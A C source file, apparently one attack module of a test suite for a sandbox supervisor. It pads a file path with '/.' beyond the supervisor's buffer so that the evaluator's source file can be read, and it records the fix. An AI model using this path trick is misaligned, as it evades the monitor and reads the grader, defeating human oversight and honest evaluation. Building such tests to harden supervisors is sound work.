// SPDX-License-Identifier: MIT
/*
 * Goal:  the evaluator's source, past a supervisor that lets through what it cannot read whole.
 * Means: /./././ ... /var/task/evaluator.py of 700 bytes. It begins in no allowed folder, so that
 *        only who gives up at the end of a buffer of 256 or 512 lets it pass. The kernel's is 4096.
 */
#include "attacks/supervisor-evasion/evaluator.h"

#include <fcntl.h>

#define LENGTH 700

static enum claim run(const struct brief *b)
{
	char path[LENGTH + sizeof(EVALUATOR)];
	size_t n = 0;

	while (n < LENGTH) {
		path[n++] = '/';
		path[n++] = '.';
	}
	memcpy(path + n, EVALUATOR, sizeof(EVALUATOR));
	attempting(b);
	return loot_evaluator(open(path, O_RDONLY | O_CLOEXEC)) ? CLAIM_DONE : denied("open");
}

const struct attack attack = {
	.effect = "a file that the supervisor guards is read",
	.means = "a path that does not end within the supervisor's buffer",
	.oracle = "secret:task",
	.id = "PROC-13",
	.attack_id = "T1562.001, CWE-636",
	.remedy = "read PATH_MAX bytes and refuse a path without an end",
	.refs = (const char *const[]){ "path_resolution(7)", NULL },
	.run = run,
};
